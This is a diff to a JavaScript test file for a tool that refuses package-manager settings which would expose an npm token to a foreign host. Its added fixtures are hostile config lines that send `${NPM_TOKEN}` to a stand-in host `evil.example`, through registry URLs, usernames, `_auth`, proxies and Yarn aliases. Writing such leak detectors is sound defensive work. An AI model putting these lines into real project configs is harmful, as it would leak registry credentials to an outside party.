@@ -44,6 +44,7 @@ describe("the settings of a package manager", () => {
       variables: ["NPM_TOKEN"],
       shown: ["NPM_TOKEN"],
       hosts: ["npm.acme.example"],
+      stray: [],
     })
   })
 
@@ -57,11 +58,12 @@ describe("the settings of a package manager", () => {
       variables: ["EVERYWHERE"],
       shown: [],
       hosts: [],
+      stray: [],
     })
   })
 
   it("need no variable", () => {
-    const none = { variables: [], shown: [], hosts: [] }
+    const none = { variables: [], shown: [], hosts: [], stray: [] }
     expect(found({})).toEqual(none)
     const npmrc = "//npm.acme.example/:_authToken=in-the-open"
     expect(found({ "web/.npmrc": npmrc })).toEqual(none)
@@ -93,5 +95,104 @@ describe("a token", () => {
     expect(refused(two)).toContain(
       "would show `--npm-token` to `evil.example:8080`, `npm.acme.example`",
     )
+  })
+
+  const YARN = lines(
+    "npmScopes:",
+    "  acme:",
+    '    npmRegistryServer: "https://npm.acme.example/"',
+    '    npmAuthToken: "${NPM_TOKEN}"',
+  )
+  it.each<[string, Record<string, string>, string]>([
+    [
+      "in the address of a registry",
+      {
+        "web/.npmrc": lines(
+          NPMRC,
+          "@evil:registry=https://evil.example/${NPM_TOKEN}/",
+        ),
+      },
+      "line 4 of `web/.npmrc`",
+    ],
+    [
+      "as the name of a user",
+      {
+        ".npmrc": "//evil.example/:username=${NPM_TOKEN}",
+        "web/.npmrc": NPMRC,
+      },
+      "line 1 of `.npmrc`",
+    ],
+    [
+      "for any host",
+      { "web/.npmrc": lines("_auth=${NPM_TOKEN}", NPMRC) },
+      "line 1 of `web/.npmrc`",
+    ],
+    [
+      "by a proxy",
+      { "web/.npmrc": lines(NPMRC, "https-proxy=http://evil.example:8080") },
+      "line 4 of `web/.npmrc`",
+    ],
+    [
+      "by a proxy of Yarn",
+      {
+        "web/.yarnrc.yml": lines(
+          YARN,
+          'networkSettings: { "*.example": { httpsProxy: "http://evil.example" } }',
+        ),
+      },
+      "line 6 of `web/.yarnrc.yml`",
+    ],
+    [
+      "in another setting of Yarn",
+      {
+        "web/.yarnrc.yml": lines(
+          YARN,
+          'npmPublishRegistry: "https://${NPM_TOKEN}.evil.example"',
+        ),
+      },
+      "line 6 of `web/.yarnrc.yml`",
+    ],
+    [
+      "in the settings of pnpm",
+      {
+        "web/.npmrc": NPMRC,
+        "pnpm-workspace.yaml": "registries: { evil: 'https://x/${NPM_TOKEN}' }",
+      },
+      "line 1 of `pnpm-workspace.yaml`",
+    ],
+  ])("is refused where another line takes it: %s", (_, texts, line) => {
+    expect(
+      refusal(() => {
+        refuseStrayToken(found(texts), "https://npm.acme.example/")
+      }),
+    ).toBe(
+      `credential: ${line} would show \`--npm-token\` to others, by a variable that stands for it or by a proxy\n   A token is for one host: let one line for that take the variable, and no other. A proxy is told to the engine.`,
+    )
+  })
+
+  it.each([
+    ["quoted", '  "npmRegistryServer": "https://evil.example/"'],
+    ["an alias", '  x: &u "https://evil.example/"\n  npmRegistryServer: *u'],
+    ["in one line", '  { npmRegistryServer: "https://evil.example/" }'],
+  ])("is refused where Yarn would show it to another host: %s", (_, more) => {
+    const texts = { "web/.yarnrc.yml": lines(YARN, " evil:", more) }
+    const server = "https://npm.acme.example/"
+    expect(
+      refusal(() => {
+        refuseStrayToken(found(texts), server)
+      }),
+    ).toContain("would show `--npm-token` to `evil.example`")
+  })
+
+  it("is given where a plugin of Yarn came from somewhere else", () => {
+    const plugin =
+      'plugins: [{ path: ".yarn/plugins/a.cjs", spec: "https://a.example/a.js" }]'
+    const one = found({ "web/.yarnrc.yml": lines(YARN, plugin) })
+    expect(one).toMatchObject({ hosts: ["npm.acme.example"], stray: [] })
+  })
+
+  it("is not given to a credential that something else may repeat", () => {
+    const yarn = YARN.replace("npmAuthToken: ", "npmAuthToken: &token ")
+    expect(found({ "web/.yarnrc.yml": yarn }).shown).toEqual([])
   })
 })
